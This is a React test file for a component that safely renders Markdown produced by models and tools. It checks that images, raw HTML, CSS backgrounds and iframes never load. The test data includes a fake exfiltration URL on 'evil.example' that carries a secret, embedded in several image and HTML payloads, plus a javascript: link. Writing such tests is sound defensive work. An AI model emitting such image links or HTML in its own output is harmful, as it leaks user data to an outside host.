import { renderInTestApp } from '@backstage/frontend-test-utils';
import { screen } from '@testing-library/react';
import { ForeignMarkdown } from './ForeignMarkdown';

const PIXEL = 'https://evil.example/p?secret=NH-10042';

describe('Markdown of models and tools', () => {
  it.each([
    ['Markdown', `Here: ![the chart](${PIXEL})`],
    ['a reference', `Here: ![the chart][1]\n\n[1]: ${PIXEL}`],
    ['a link round it', `Here: [![the chart](${PIXEL})](${PIXEL})`],
  ])('links to a picture in %s and never loads it', async (_, content) => {
    const { container } = await renderInTestApp(
      <ForeignMarkdown content={content} />,
    );
    expect(container.querySelectorAll('img')).toHaveLength(0);
    const [link] = screen.getAllByRole('link', { name: 'the chart' });
    expect(link).toHaveAttribute('href', PIXEL);
    expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  });

  it('renders no HTML, whatever would load with it', async () => {
    const { container } = await renderInTestApp(
      <ForeignMarkdown
        content={[
          `Before <img src="${PIXEL}" alt="x"> after.`,
          `<picture><source srcset="${PIXEL}"></picture>`,
          `<div style="background:url(${PIXEL})">styled</div>`,
          `<iframe src="${PIXEL}"></iframe>`,
        ].join('\n\n')}
      />,
    );
    expect(container.innerHTML).not.toContain('evil.example');
    expect(screen.getByText(/Before/)).toHaveTextContent('Before after.');
  });

  it('follows no script in a link', async () => {
    const { container } = await renderInTestApp(
      <ForeignMarkdown content="[click](javascript:alert(1)) and [file](foo)" />,
    );
    expect(container.innerHTML).not.toContain('alert(1)');
    expect(screen.getByRole('link', { name: 'file' })).toBeInTheDocument();
  });

  it('shows tables and code', async () => {
    await renderInTestApp(
      <ForeignMarkdown
        content={
          '| a | b |\n|---|---|\n| 1 | `vec![2]` |\n\n```json\n{"x":1}\n```'
        }
      />,
    );
    expect(screen.getByRole('cell', { name: 'vec![2]' })).toBeInTheDocument();
    expect(await screen.findByText(/"x"/)).toBeInTheDocument();
  });
});
